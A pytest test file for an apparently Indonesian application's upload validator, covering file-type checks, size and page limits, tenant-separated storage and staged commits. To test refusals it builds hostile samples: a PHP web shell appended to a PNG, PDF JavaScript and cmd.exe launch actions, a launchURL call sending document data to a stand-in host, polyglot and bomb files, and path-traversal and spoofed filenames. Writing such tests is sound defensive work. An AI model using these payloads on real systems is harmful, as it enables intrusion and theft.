"""shared/files.py: uploads judged by content (parsed whole), stored once per tenant, never across
tenants, and kept only once the command that refers to them is accepted."""
import hashlib
import io
import os
import struct
import threading
import zipfile
import zlib

import pytest
from mongomock_motor import enabled_gridfs_integration
from PIL import Image, ImageFile
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from services.gateway.web.i18n import error_message
from shared import files
from shared.errors import Conflict, Invalid, NotFound, ServiceUnavailable
from shared.files import DiskFileStore, GridFsFileStore, check_upload, display_name, open_file_store, save_upload
from shared.readstore import open_read_store
from shared.settings import Settings
from tests.support.samples import pdf_of_size, png_chunk, tiny_jpeg, tiny_pdf, tiny_png

WRONG_TYPE = "Berkas harus PDF, JPG atau PNG (isi berkas diperiksa, bukan namanya)"


# Real files, built here byte by byte (tiny PDF, PNG and JPEG in tests/support/samples.py).

def tiny_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("KTP.pdf", tiny_pdf())
    return buffer.getvalue()


def written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def one_page(**catalog) -> PdfWriter:
    """A blank one-page PDF (pypdf's writer) with these extra catalog entries."""
    writer = PdfWriter()
    writer.add_blank_page(72, 72)
    for key, value in catalog.items():
        writer._root_object[NameObject(f"/{key}")] = value
    return writer


def pillow(kind: str, size: tuple[int, int] = (64, 48), **options) -> bytes:
    """A real photo-like image, as a camera or a scanner app would save it."""
    image = Image.linear_gradient("L").resize(size).convert("RGB")
    buffer = io.BytesIO()
    image.save(buffer, kind, **options)
    return buffer.getvalue()


def png_declaring(width: int, height: int) -> bytes:
    """A well-formed PNG (valid CRCs, IEND) whose header claims this size; its data is a few bytes."""
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + png_chunk(b"IEND", b""))


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
HTML = b"<!DOCTYPE html><html><script>fetch('/api/me')</script>%PDF-1.4 %%EOF</html>"


# --- check_upload -----------------------------------------------------------------------------

@pytest.mark.parametrize("content, name, media_type, shown", [
    (tiny_pdf(), "FR.APL.01 Budi.pdf", "application/pdf", "FR.APL.01 Budi.pdf"),
    (tiny_jpeg(), "ijazah.JPEG", "image/jpeg", "ijazah.JPEG"),
    (tiny_png(), "bukti-transfer.png", "image/png", "bukti-transfer.png"),
])
def test_real_files_are_accepted_with_their_type_and_hash(content, name, media_type, shown):
    upload = check_upload(content, name, max_bytes=1024)
    assert upload.media_type == media_type
    assert upload.sha256 == hashlib.sha256(content).hexdigest()
    assert upload.size == len(content)
    assert upload.filename == shown


@pytest.mark.parametrize("content", [EXE, tiny_zip(), HTML, b"hello, this is plain text"],
                         ids=["exe", "zip", "html", "text"])
def test_other_content_named_pdf_is_refused_on_field_file(content):
    with pytest.raises(Invalid) as refused:
        check_upload(content, "dokumen.pdf", max_bytes=1 << 20)
    assert refused.value.field == "file" and refused.value.status == 422
    assert error_message(refused.value, "id") == WRONG_TYPE  # what the asesi reads


def refusal(content: bytes, **settings) -> Invalid:
    """check_upload's refusal (with these settings), which must name the file field."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(files, "get_settings", lambda: Settings(**settings))
        with pytest.raises(Invalid) as refused:
            check_upload(content, "dokumen", max_bytes=20 << 20)
    assert refused.value.field == "file" and refused.value.status == 422
    assert error_message(refused.value, "id") != refused.value.message  # in the catalogue: Indonesian
    return refused.value


GOOD = {"tiny-pdf": tiny_pdf(), "pypdf": written(one_page()), "tiny-jpeg": tiny_jpeg(), "tiny-png": tiny_png(),
        "camera-jpeg-with-exif-thumbnail": pillow("JPEG", (640, 480), exif=Image.Exif(), progressive=True),
        "pillow-png": pillow("PNG", (640, 480)),
        "jpeg-then-its-gain-map": pillow("JPEG") + pillow("JPEG", (16, 12))}  # two whole images (phones' MPF)


@pytest.mark.parametrize("content", GOOD.values(), ids=GOOD.keys())
def test_good_files_pass_the_parsers(content):
    assert check_upload(content, "berkas", max_bytes=1 << 20).size == len(content)


def test_a_jpeg_whose_exif_thumbnail_ends_with_an_end_marker_passes():
    """The thumbnail inside APP1 is a whole JPEG with its own end marker: the walk skips it by its length."""
    exif = Image.Exif()
    exif[0x010E] = "KTP"  # ImageDescription
    thumbnail = pillow("JPEG", (16, 12))
    content = pillow("JPEG", exif=exif.tobytes())
    app1 = b"\xff\xe1" + struct.pack(">H", len(thumbnail) + 8) + b"Exif\x00\x00" + thumbnail
    assert check_upload(content[:2] + app1 + content[2:], "foto.jpg", max_bytes=1 << 20).media_type == "image/jpeg"


def js_action(script: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(script)})


def launch() -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})


def page_opening(action: DictionaryObject) -> bytes:
    writer = one_page()
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(action)})
    return written(writer)


def with_orphan(action: DictionaryObject) -> bytes:
    """The action in an object nothing refers to: still in the cross-reference table, so a viewer may reach it."""
    writer = one_page()
    writer._add_object(action)
    return written(writer)


def js_document() -> bytes:
    writer = one_page()
    writer.add_open_action(JavaScript("app.launchURL('https://contoh.invalid/?c=' + this.info.Title);"))
    return written(writer)


def attachment() -> bytes:
    writer = one_page()
    writer.add_attachment("bukti.exe", EXE)
    return written(writer)


def annotated(subtype: str) -> bytes:
    writer = one_page()
    annotation = DictionaryObject({NameObject("/Type"): NameObject("/Annot"),
                                   NameObject("/Subtype"): NameObject(subtype),
                                   NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4)})
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return written(writer)


ACTIVE = {
    "javascript-names-tree": (js_document(), ["/JS", "/JavaScript"]),
    "open-action-javascript": (written(one_page(OpenAction=js_action("app.alert(1)"))), ["/JS", "/JavaScript"]),
    "open-action-launch": (written(one_page(OpenAction=launch())), ["/Launch"]),
    "page-open-action-javascript": (page_opening(js_action("app.alert(1)")), ["/JS", "/JavaScript"]),
    "unreferenced-launch": (with_orphan(launch()), ["/Launch"]),
    "escaped-name": (written(one_page(OpenAction=DictionaryObject({  # a reader reads /J#61vaScript as /JavaScript
        NameObject("/S"): NameObject("/Jxxxxxxxxxxx")}))).replace(b"/Jxxxxxxxxxxx", b"/J#61vaScript"),
        ["/JavaScript"]),
    "embedded-file": (attachment(), ["/EF", "/EmbeddedFile", "/EmbeddedFiles"]),
    "file-attachment-annotation": (annotated("/FileAttachment"), ["/FileAttachment"]),
    "rich-media-annotation": (annotated("/RichMedia"), ["/RichMedia"]),
}


@pytest.mark.parametrize("content, found", ACTIVE.values(), ids=ACTIVE.keys())
def test_a_pdf_with_active_content_or_attached_files_is_refused(content, found):
    refused = refusal(content)
    assert refused.template.startswith("the PDF contains active content or attached files")
    assert refused.params["found"] == found
    assert "cetak ulang menjadi PDF baru" in error_message(refused, "id")  # says what to do


def test_a_pdf_that_is_also_a_zip_archive_is_refused():
    archive = tiny_zip()
    inside = tiny_pdf().replace(b"%PDF-1.4\n", b"%PDF-1.4\n%" + archive.replace(b"\n", b" ") + b"\n")
    for content in (tiny_pdf() + archive, inside, pillow("JPEG") + archive):
        with zipfile.ZipFile(io.BytesIO(content)) as polyglot:
            assert polyglot.namelist() == ["KTP.pdf"]  # an archive tool opens it
        refused = refusal(content)
        assert refused.template.startswith("the file also holds a ZIP archive")


def test_an_encrypted_pdf_is_refused_with_why():
    writer = one_page()
    writer.encrypt(user_password="", owner_password="rahasia")  # opens without a password, yet encrypted
    text = error_message(refusal(written(writer)), "id")
    assert "tidak dapat diperiksa" in text and "tanpa kata sandi" in text


def test_a_pdf_over_the_page_limit_is_refused():
    writer = PdfWriter()
    for _ in range(4):
        writer.add_blank_page(72, 72)
    assert check_upload(written(writer), "a.pdf", max_bytes=1 << 20).media_type == "application/pdf"
    refused = refusal(written(writer), upload_max_pages=3)
    assert refused.params == {"limit": "3"} and "3 halaman" in error_message(refused, "id")


@pytest.mark.parametrize("bound, value", [("_PDF_MAX_OBJECTS", 2),  # tiny_pdf has 3
                                          ("_PDF_CPU_SECONDS", -1)])  # parsing time used up at once
def test_parsing_a_pdf_stops_at_its_bounds_with_a_message_saying_what_to_do(monkeypatch, bound, value):
    monkeypatch.setattr(files, bound, value)
    refused = refusal(tiny_pdf())
    assert refused.template.startswith("the PDF is too complex to check") and "cetak ulang" in error_message(
        refused, "id")


def test_a_huge_cross_reference_stream_is_refused_before_it_is_read():
    """17 KB that declare 2 million objects: pypdf would spend seconds building its table."""
    entries = 1_999_000
    data = zlib.compress(b"\x01\x00\x00\x00\x09\x00" * entries, 9)
    head = (b"%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n")
    xref = (b"3 0 obj\n<< /Type /XRef /Size %d /W [1 4 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
            % (entries, len(data)) + data + b"\nendstream\nendobj\n")
    refused = refusal(head + xref + b"startxref\n%d\n%%%%EOF\n" % len(head))
    assert refused.template.startswith("the PDF is too complex to check")


def test_a_png_declaring_50000_by_50000_pixels_is_refused_from_its_header(monkeypatch):
    def decoded(self):
        raise AssertionError("the pixels were decoded")

    monkeypatch.setattr(ImageFile.ImageFile, "load", decoded)  # would turn the refusal into "damaged"
    for content in (png_declaring(50_000, 50_000),  # 2.5 gigapixels: Pillow's own bomb guard as well
                    png_declaring(7_000, 6_000)):  # 42 megapixels: under Pillow's guard, over the setting
        refused = refusal(content)
        assert refused.template.startswith("the image has too many pixels") and refused.params == {"limit": "40"}
    assert refusal(png_declaring(2_000, 1_000), upload_max_pixels=1_000_000).params == {"limit": "1"}


@pytest.mark.parametrize("content", [
    pillow("JPEG")[:-2],  # no end-of-image marker
    pillow("JPEG")[:len(pillow("JPEG")) // 2],  # cut off in the scan
    pillow("JPEG", progressive=True)[:-200],
    b"\xff\xd8\xff\xe0" + b"\x00" * 40,  # JPEG magic bytes and nothing else
    tiny_pdf()[:-40],  # a PDF cut off in transfer
    tiny_png()[:-12],  # a PNG without its end
    pillow("PNG")[:-30],
    tiny_png()[:40] + b"\x00" + tiny_png()[41:],  # a damaged IDAT: its CRC no longer matches
], ids=["jpeg-no-eoi", "jpeg-half", "progressive-jpeg-cut", "jpeg-magic-only", "pdf-cut", "png-no-iend",
        "png-cut", "png-bad-crc"])
def test_damaged_or_truncated_files_are_refused(content):
    refused = refusal(content)
    assert refused.template.startswith("the {kind} file is damaged or incomplete")


@pytest.mark.parametrize("content", [
    pillow("PNG") + b"<?php system($_GET['c']); ?>",
    tiny_png() + tiny_png(),
    pillow("JPEG") + b"\x00\x00\x00\x18ftypmp42",  # a motion photo: a video after the picture
    pillow("JPEG") + b"<script>alert(1)</script>",
    tiny_pdf() + b"<html><script>alert(1)</script></html>",
], ids=["png-php", "png-twice", "jpeg-motion-photo", "jpeg-html", "pdf-html"])
def test_data_after_the_end_of_the_file_is_refused(content):
    refused = refusal(content)
    assert refused.template.startswith("the {kind} file has extra data after its end")


async def test_checking_runs_in_a_worker_thread_not_on_the_event_loop(monkeypatch):
    threads = []
    real = files.check_upload

    def spy(*args):
        threads.append(threading.current_thread())
        return real(*args)

    monkeypatch.setattr(files, "check_upload", spy)
    assert (await files.checked(tiny_pdf(), "a.pdf")).media_type == "application/pdf"
    assert threads and threads[0] is not threading.main_thread()


def test_a_pdf_named_png_is_a_pdf_and_its_name_says_so():
    upload = check_upload(tiny_pdf(), "scan.png", max_bytes=1 << 20)
    assert upload.media_type == "application/pdf"
    assert upload.filename == "scan.png.pdf"  # the extension follows the content, so it opens right


def test_oversized_and_empty_files_are_refused():
    content = tiny_pdf()
    assert check_upload(content, "a.pdf", max_bytes=len(content)).size == len(content)
    with pytest.raises(Invalid) as too_big:
        check_upload(content, "a.pdf", max_bytes=len(content) - 1)
    assert too_big.value.field == "file" and error_message(too_big.value, "id").startswith("Berkas melebihi batas ")
    with pytest.raises(Invalid) as empty:
        check_upload(b"", "a.pdf", max_bytes=1024)
    assert empty.value.field == "file" and error_message(empty.value, "id").startswith("Berkas kosong")


def test_the_default_limit_is_10_mib_and_the_message_names_it(monkeypatch):
    monkeypatch.delenv("LSP_UPLOAD_MAX_BYTES", raising=False)
    assert Settings().upload_max_bytes == 10 * 1024 * 1024
    monkeypatch.setattr(files, "get_settings", Settings)
    ten_mib_pdf = pdf_of_size(10 * 1024 * 1024)
    assert check_upload(ten_mib_pdf, "a.pdf").size == 10 * 1024 * 1024
    with pytest.raises(Invalid) as ten:
        check_upload(tiny_pdf(padding=10 * 1024 * 1024), "a.pdf")
    assert error_message(ten.value, "id") == "Berkas melebihi batas 10 MB"
    monkeypatch.setenv("LSP_UPLOAD_MAX_BYTES", str(2 * 1024 * 1024 + 512 * 1024))
    with pytest.raises(Invalid) as odd:
        check_upload(tiny_pdf(padding=3 * 1024 * 1024), "a.pdf")
    assert error_message(odd.value, "id") == "Berkas melebihi batas 2,5 MB"
    assert odd.value.message == "file exceeds the 2,5 MB limit" and odd.value.params == {"limit": "2,5 MB"}


@pytest.mark.parametrize("declared, shown", [
    ("../../etc/passwd", "passwd.pdf"),
    ("C:\\Users\\budi\\Desktop\\KTP.pdf", "KTP.pdf"),
    ("KTP.pdf\x00.exe", "KTP.pdf.exe.pdf"),
    ("bukti\ntransfer\r\n.pdf", "bukti transfer .pdf"),
    ("laporan\u202efdp.exe", "laporanfdp.exe.pdf"),  # the right-to-left override would show "exe.pdf"
    ("..", "berkas.pdf"),
    ("", "berkas.pdf"),
    (None, "berkas.pdf"),
    (".htaccess", "htaccess.pdf"),
    ("Sertifikat Kompetensi – Budi Santoso.pdf", "Sertifikat Kompetensi – Budi Santoso.pdf"),
    ("a" * 300 + ".pdf", "a" * 100 + ".pdf"),
])
def test_display_names_are_safe(declared, shown):
    assert display_name(declared, "application/pdf") == shown


# --- stores -----------------------------------------------------------------------------------

@pytest.fixture(params=["disk", "gridfs"])
def file_store(request, tmp_path):
    if request.param == "disk":
        yield DiskFileStore(tmp_path / "files")
        return
    with enabled_gridfs_integration():  # lets motor's GridFS run on mongomock (the real thing: integration)
        yield GridFsFileStore(open_read_store("memory", "unit"))


async def stored_copies(store, tenant: str) -> int:
    if isinstance(store, DiskFileStore):
        return len([p for p in (store.root / tenant).rglob("*") if p.is_file() and p.suffix != ".json"])
    return await store.read_store.client["unit_files"]["fs.files"].count_documents({"metadata.tenant": tenant})


async def test_put_then_get_returns_the_bytes_and_metadata(file_store):
    content = tiny_jpeg()
    file_id, upload = await save_upload(file_store, "JKT01", content, "foto/pas foto.jpg")
    assert file_id == upload.sha256 == hashlib.sha256(content).hexdigest()
    meta, got = await file_store.get("JKT01", file_id)
    assert got == content
    assert {k: meta[k] for k in ("file_id", "tenant", "sha256", "size", "media_type", "filename")} == {
        "file_id": file_id, "tenant": "JKT01", "sha256": file_id, "size": len(content),
        "media_type": "image/jpeg", "filename": "pas foto.jpg"}


async def test_the_same_content_is_stored_once(file_store):
    first, _ = await save_upload(file_store, "JKT01", tiny_pdf(), "a.pdf")
    second, _ = await save_upload(file_store, "JKT01", tiny_pdf(), "b.pdf")
    await save_upload(file_store, "JKT01", tiny_png(), "c.png")
    assert first == second
    assert await stored_copies(file_store, "JKT01") == 2
    assert (await file_store.get("JKT01", first))[0]["filename"] == "a.pdf"  # the first name stays


async def test_another_tenants_file_is_not_found(file_store):
    file_id, _ = await save_upload(file_store, "JKT01", tiny_pdf(), "a.pdf")
    for tenant, wanted in [("SBY01", file_id), ("JKT01", "0" * 64), ("JKT01", "../JKT01/" + file_id),
                           ("JKT01", file_id.upper()), ("../JKT01", file_id)]:
        with pytest.raises(NotFound) as missing:
            await file_store.get(tenant, wanted)
        assert missing.value.status == 404
    # the other tenant storing the same content gets its own copy, not a link to JKT01's
    await save_upload(file_store, "SBY01", tiny_pdf(), "a.pdf")
    assert await stored_copies(file_store, "SBY01") == 1


async def test_a_refused_file_writes_nothing(file_store):
    with pytest.raises(Invalid):
        await save_upload(file_store, "JKT01", EXE, "setup.pdf")
    with pytest.raises(Invalid):
        await save_upload(file_store, "JKT01", tiny_pdf(), "a.pdf", max_bytes=10)
    upload = check_upload(tiny_pdf(), "a.pdf", max_bytes=1024)
    with pytest.raises(ValueError):  # content that is not what was checked is never stored
        await file_store.stage("JKT01", upload, EXE)
    assert await stored_copies(file_store, "JKT01") == 0


async def command_refusing(store, upload: files.Upload, content: bytes, error: Exception) -> None:
    with pytest.raises(type(error)):
        async with files.keep_if_accepted(store, "JKT01", upload, content):
            raise error  # what the command answered


async def test_a_refused_command_deletes_its_copy_but_never_a_kept_twin(file_store):
    kept_id, upload = await save_upload(file_store, "JKT01", tiny_pdf(), "a.pdf")  # an earlier accepted upload
    for error in (NotFound("application not found"), Conflict("not possible"), Invalid("too big", field="file")):
        await command_refusing(file_store, upload, tiny_pdf(), error)  # the same content, refused
    other = check_upload(tiny_png(), "b.png")
    await command_refusing(file_store, other, tiny_png(), Conflict("not possible"))
    assert await stored_copies(file_store, "JKT01") == 1
    assert (await file_store.get("JKT01", kept_id))[1] == tiny_pdf()
    with pytest.raises(NotFound):
        await file_store.get("JKT01", other.sha256)


async def test_after_a_timeout_the_staged_copy_stays_and_is_served(file_store):
    """An RPC timeout does not say the command failed: it may have been saved, so nothing is deleted."""
    upload = check_upload(tiny_png(), "a.png")
    await command_refusing(file_store, upload, tiny_png(),
                           ServiceUnavailable("{service} is not running", service="registration"))
    assert (await file_store.get("JKT01", upload.sha256))[1] == tiny_png()


async def test_staged_content_is_served_until_promoted_and_then_kept_once(file_store):
    """The crash the design is for: the command's event is saved, then the process dies before promoting."""
    upload = check_upload(tiny_jpeg(), "a.jpg")
    staged = await file_store.stage("JKT01", upload, tiny_jpeg())
    metadata, content = await file_store.get("JKT01", upload.sha256)  # after the restart: still served
    assert content == tiny_jpeg() and metadata["filename"] == "a.jpg"
    twin = await file_store.stage("JKT01", upload, tiny_jpeg())  # the same content, uploaded again meanwhile
    await file_store.promote(twin)
    await file_store.promote(staged)  # a late promotion (or a retry) finds it kept already
    assert await stored_copies(file_store, "JKT01") == 1
    metadata, content = await file_store.get("JKT01", upload.sha256)
    assert content == tiny_jpeg() and "pending" not in metadata


def crashing_on(monkeypatch, where: str) -> None:
    """os.replace fails (a crash) when it would put a JSON file into `where` (a directory name)."""
    real_replace = os.replace

    def replace(source, target):
        if str(target).endswith(".json") and f"/{where}/" in str(target):
            raise OSError("disk full")
        real_replace(source, target)

    monkeypatch.setattr(os, "replace", replace)


async def test_a_crash_while_staging_leaves_no_half_file(tmp_path, monkeypatch):
    store = DiskFileStore(tmp_path / "files")
    upload = check_upload(tiny_png(), "a.png", max_bytes=1024)
    crashing_on(monkeypatch, "pending")
    with pytest.raises(OSError):
        await store.stage("JKT01", upload, tiny_png())
    leftovers = [p.name for p in (tmp_path / "files").rglob("*") if p.is_file()]
    assert len(leftovers) == 1 and leftovers[0].startswith(upload.sha256 + "-")  # content, no temporary, no JSON
    with pytest.raises(NotFound):  # without its metadata the file is not complete, so not served
        await store.get("JKT01", upload.sha256)
    monkeypatch.undo()
    await save_upload(store, "JKT01", tiny_png(), "a.png")
    assert (await store.get("JKT01", upload.sha256))[1] == tiny_png()


async def test_a_crash_while_promoting_loses_nothing(tmp_path, monkeypatch):
    store = DiskFileStore(tmp_path / "files")
    upload = check_upload(tiny_png(), "a.png", max_bytes=1024)
    staged = await store.stage("JKT01", upload, tiny_png())
    crashing_on(monkeypatch, upload.sha256[:2])  # the kept copy's content is in place, its JSON is not
    with pytest.raises(OSError):
        await store.promote(staged)
    assert (await store.get("JKT01", upload.sha256))[1] == tiny_png()  # from the staged copy
    monkeypatch.undo()
    await store.promote(staged)  # retried (or promoted by the next upload of the same content)
    assert [p.relative_to(tmp_path / "files").parts[1] for p in (tmp_path / "files").rglob("*") if p.is_file()] \
        == [upload.sha256[:2]] * 2  # content and JSON, nothing left pending
    assert (await store.get("JKT01", upload.sha256))[1] == tiny_png()


async def test_gridfs_refuses_a_concurrent_second_kept_copy_and_removes_its_chunks():
    with enabled_gridfs_integration():
        read_store = open_read_store("memory", "unit")
        await read_store.ensure_file_index("tenant", "sha256", "pending")
        key = {"tenant": "JKT01", "sha256": "ab" * 32}
        # both racers checked find_file before either stored: the unique index decides
        assert await read_store.put_file("a.pdf", b"x" * 300_000, key) is True
        assert await read_store.put_file("a.pdf", b"x" * 300_000, key) is False
        assert await read_store.put_file("a.pdf", b"x" * 300_000, {**key, "pending": "t1"}) is True  # staged
        database = read_store.client["unit_files"]
        assert await database["fs.files"].count_documents({}) == 2
        assert await database["fs.chunks"].count_documents({}) == 4  # two files' 255 KiB chunks
        staged = await read_store.find_file({**key, "pending": "t1"})
        assert await read_store.set_file_metadata(staged["_id"], key) is False  # a twin is kept already
        await read_store.delete_files({**key, "pending": "t1"})
        assert await database["fs.chunks"].count_documents({}) == 2


async def test_gridfs_drops_the_unique_index_of_the_earlier_layout():
    """(tenant, sha256) unique, from before uploads were staged, would refuse every staged copy of kept content."""
    with enabled_gridfs_integration():
        read_store = open_read_store("memory", "unit")
        await read_store.ensure_file_index("tenant", "sha256")
        store = GridFsFileStore(read_store)
        kept_id, upload = await save_upload(store, "JKT01", tiny_pdf(), "a.pdf")
        await command_refusing(store, upload, tiny_pdf(), Conflict("not possible"))  # stages a second copy
        indexes = await read_store.client["unit_files"]["fs.files"].index_information()
        assert [spec["key"] for spec in indexes.values() if spec.get("unique")] == [
            [("metadata.tenant", 1), ("metadata.sha256", 1), ("metadata.pending", 1)]]
        assert await stored_copies(store, "JKT01") == 1


def test_open_file_store_follows_the_mode(tmp_path):
    disk = open_file_store(Settings(mode="embedded", data_dir=tmp_path))
    assert isinstance(disk, DiskFileStore) and disk.root == tmp_path / "files"
    gridfs = open_file_store(Settings(mode="distributed", read_store_uri="memory", read_db_prefix="x"))
    assert isinstance(gridfs, GridFsFileStore) and gridfs.read_store.prefix == "x"
